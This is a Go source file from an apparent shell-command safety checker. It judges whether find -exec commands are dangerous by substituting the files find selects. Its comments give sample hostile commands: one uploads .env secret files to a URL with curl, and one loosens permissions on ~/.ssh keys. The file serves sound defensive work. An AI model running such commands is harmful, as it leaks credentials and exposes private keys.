package danger

import (
	"path"
	"strings"

	"github.com/mcp-terminal/mcp-terminal/security/internal/shell"
)

// checkFindExecSelected judges find's -exec command (other than a delete,
// which the deletion model judges) with {} standing for a file find selects:
// its start directory joined with what its name test names (find ~/.ssh
// -type f -exec chmod 644 {} + is chmod 644 ~/.ssh/x; find . -name '.env*'
// -exec curl -F file=@{} URL is curl -F file=@./.env URL).
func checkFindExecSelected(sc shell.Command, starts, expr []shell.Word, depth int) Verdict {
	if deleters[sc.Name] || !argsDynamic(sc.Args) {
		return Verdict{}
	}
	names := findSelectedNames(expr)
	for _, st := range starts {
		for _, n := range names {
			p := strings.TrimSuffix(st.S, "/") + "/" + n
			if st.S == "." {
				p = "./" + n
			}
			d := sc
			d.Args = make([]shell.Word, len(sc.Args))
			for i, w := range sc.Args {
				d.Args[i] = shell.Word{S: strings.ReplaceAll(w.S, shell.DynMark, p)}
			}
			if v := checkCommand(d, depth); v.Dangerous {
				return v
			}
		}
	}
	return Verdict{}
}

func argsDynamic(ws []shell.Word) bool {
	for _, w := range ws {
		if strings.Contains(w.S, shell.DynMark) {
			return true
		}
	}
	return false
}

// findSelectedNames: a file name for each name test find's expression keeps
// files by (-name '.env*' → .env, -name '*.pem' → x.pem), or "x" when it has
// none; a negated test (! -name, -not -name) names what it leaves out.
func findSelectedNames(expr []shell.Word) []string {
	var out []string
	for i := 0; i+1 < len(expr); i++ {
		if expr[i].S != "-name" && expr[i].S != "-iname" {
			continue
		}
		if i > 0 && (expr[i-1].S == "!" || expr[i-1].S == "-not") {
			continue
		}
		g := expr[i+1].S
		if strings.ContainsAny(g, "[]") {
			out = append(out, "x")
			continue
		}
		g = strings.TrimRight(g, "*")
		g = strings.ReplaceAll(strings.ReplaceAll(g, "*", "x"), "?", "x")
		if g == "" || path.Base(g) != g {
			g = "x"
		}
		out = append(out, g)
	}
	if len(out) == 0 {
		out = []string{"x"}
	}
	return out
}
